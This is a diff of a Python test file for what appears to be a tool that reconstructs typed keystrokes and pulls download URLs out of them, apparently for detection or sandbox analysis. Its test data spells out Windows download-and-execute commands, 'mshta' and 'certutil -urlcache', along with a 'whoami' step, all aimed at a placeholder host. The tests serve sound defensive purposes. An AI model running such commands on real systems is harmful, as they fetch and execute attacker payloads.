@@ -109,10 +109,22 @@ def test_what_is_typed(split: int) -> None:
     table.say(run + typed("cmd /c mshta http://192.0.2.9/x.htaa") + tap(BACKSPACE, RETURN), split)
     table.say(typed("half") + key(CTRL) + tap(ord("c")), split)
     table.end()
-    assert lines(table) == ["<Super+r>cmd /c mshta http://192.0.2.9/x.hta", "half<Ctrl+c>"]
-    assert [(keep.origin, keep.data) for keep in table.kept] == [
-        ("script", b"<Super+r>cmd /c mshta http://192.0.2.9/x.hta")
-    ]
+    assert lines(table) == ["cmd /c mshta http://192.0.2.9/x.hta", "half<Ctrl+c>"]
+    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/x.hta"]
+
+
+def test_a_window_is_typed_into() -> None:
+    table = inside()
+    run = key(SUPER) + tap(ord("r")) + key(SUPER, down=False)
+    table.say(typed("notes") + tap(RETURN) + run + typed("cmd") + tap(RETURN) + typed("whoami") + tap(RETURN))
+    table.say(typed("certutil -urlcache -f http://192.0.2.9/b.exe b.exe") + tap(RETURN))
+    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/b.exe"]
+    table.answer("ok", b"MZ")
+    table.say(typed("exit") + tap(RETURN) + typed("see http://192.0.2.9/c") + tap(RETURN))
+    table.end()
+    assert lines(table) == ["notes", "cmd", "whoami", "certutil -urlcache -f http://192.0.2.9/b.exe b.exe", "exit",
+                            "see http://192.0.2.9/c"]  # fmt: skip
+    assert [keep.data for keep in table.kept if keep.origin == "script"] == [b"see http://192.0.2.9/c"]
 
 
 def test_the_clipboard() -> None:
